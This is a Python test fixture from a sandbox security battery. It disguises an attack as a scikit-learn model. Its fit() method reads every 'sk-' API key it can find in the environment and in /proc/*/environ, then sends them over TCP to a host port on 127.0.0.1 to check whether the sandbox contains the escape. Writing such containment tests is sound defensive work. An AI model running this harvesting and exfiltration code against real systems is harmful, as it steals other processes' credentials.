"""Attack: reach a TCP server of the host on 127.0.0.1 and send it any API key in sight.

A code proposal of the security battery (tests/security). Like every attack there, its
estimator records what it managed by raising: ``ESCAPED ...`` for each step that worked,
``BLOCKED ...`` for each that failed. The test writes the attack's settings into ``SETTINGS``.
"""

from __future__ import annotations

import os
import socket
from typing import Any

import numpy as np
from sklearn.base import BaseEstimator, ClassifierMixin

SETTINGS: dict[str, Any] = {}


def _secrets() -> list[str]:
    """Every value that looks like an API key in this process's or any visible environment."""
    found = [v for v in os.environ.values() if v.startswith("sk-")]
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                found += [item.split(b"=", 1)[1].decode() for item in handle.read().split(b"\0")
                          if b"=sk-" in item]
        except OSError:
            continue
    return sorted(set(found))


class Attack(ClassifierMixin, BaseEstimator):
    def __init__(self, port: int = 0) -> None:
        self.port = port

    def fit(self, X: Any, y: Any) -> Attack:
        payload = ("hello from the sandbox " + " ".join(_secrets())).encode()
        try:
            with socket.create_connection(("127.0.0.1", self.port), timeout=3) as conn:
                conn.sendall(payload)
        except OSError as exc:
            raise RuntimeError(f"ATTACK connect_back: BLOCKED connect: {exc}") from exc
        raise RuntimeError(f"ATTACK connect_back: ESCAPED connected and sent {payload!r}")

    def predict(self, X: Any) -> np.ndarray:
        return np.zeros(len(X))

    def predict_proba(self, X: Any) -> np.ndarray:
        return np.full((len(X), 2), 0.5)


def build_model(params: dict[str, Any]) -> Attack:
    return Attack(**SETTINGS)
